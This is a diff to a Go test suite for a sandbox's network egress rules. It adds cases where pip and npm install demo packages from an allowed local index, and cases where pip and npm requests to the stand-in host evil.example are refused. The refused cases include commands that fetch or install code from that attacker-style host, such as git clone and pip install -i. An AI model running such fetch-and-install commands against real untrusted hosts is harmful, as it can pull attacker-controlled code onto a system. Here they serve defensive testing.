@@ -80,8 +80,10 @@ func TestOrdinaryProgramsReachAllowedNamesOnly(t *testing.T) {
 		t.Run(runtime, func(t *testing.T) {
 			s, ca := upstream.Site(t)
 			port := portOf(s.Listener.Addr().String())
-			b := start(t, runtime, local.ProfileDefault, port)
-			box := b.create(&sandboxv1.EgressRule{Hosts: []string{"example.com"}, Cidrs: []string{"127.0.0.1/32"}, Ports: []uint32{port}})
+			packages := portOf(upstream.Packages(t).Listener.Addr().String())
+			index := fmt.Sprintf("http://index.example:%d", packages)
+			b := start(t, runtime, local.ProfileDefault, port, packages)
+			box := b.create(&sandboxv1.EgressRule{Hosts: []string{"example.com", "index.example"}, Cidrs: []string{"127.0.0.1/32"}, Ports: []uint32{port, packages}})
 			if _, err := box.Write(t.Context(), "/workspace/ca.pem", []byte(ca), sandgate.WriteRequest{}); err != nil {
 				t.Fatal(err)
 			}
@@ -97,6 +99,8 @@ func TestOrdinaryProgramsReachAllowedNamesOnly(t *testing.T) {
 				{"node", "NODE_EXTRA_CA_CERTS=$PWD/ca.pem " + node + url + "/site/file", "content"},
 				{"node, no proxy", plain + "NODE_EXTRA_CA_CERTS=$PWD/ca.pem " + node + url + "/site/file", "content"},
 				{"python", `SSL_CERT_FILE=ca.pem python3 -c 'import sys, urllib.request; print(urllib.request.urlopen(sys.argv[1]).read().decode().strip())' ` + url + "/site/file", "content"},
+				{"pip", "pip install -q --disable-pip-version-check --no-cache-dir --retries 0 --trusted-host index.example -i " + index + "/simple/ demo && NETWORK=x demo-py", "python x"},
+				{"npm", "mkdir n && cd n && npm install --silent --no-audit --no-fund --fetch-retries=0 --registry " + index + "/npm/ demo && NETWORK=x node_modules/.bin/demo-js", "node x"},
 			} {
 				if got, code := sh(t, box, c.script); got != c.want || code != 0 {
 					t.Errorf("%s: %q, exit code %d", c.name, got, code)
@@ -110,6 +114,8 @@ func TestOrdinaryProgramsReachAllowedNamesOnly(t *testing.T) {
 				{"git", "git clone -q https://evil.example/x", "403"},
 				{"python", `python3 -c 'import urllib.request; urllib.request.urlopen("https://evil.example/")'`, `it needs hosts: ["evil.example"], ports: [443]`},
 				{"node", node + "https://evil.example/", ""},
+				{"pip", "pip install -q --no-cache-dir --retries 0 -i https://evil.example/simple/ demo2", "No matching distribution found"},
+				{"npm", "npm view --fetch-retries=0 --registry https://evil.example/ demo", "403"},
 			} {
 				if got, code := sh(t, box, c.script); !strings.Contains(got, c.want) || code == 0 {
 					t.Errorf("refused, %s: %q, exit code %d", c.name, got, code)
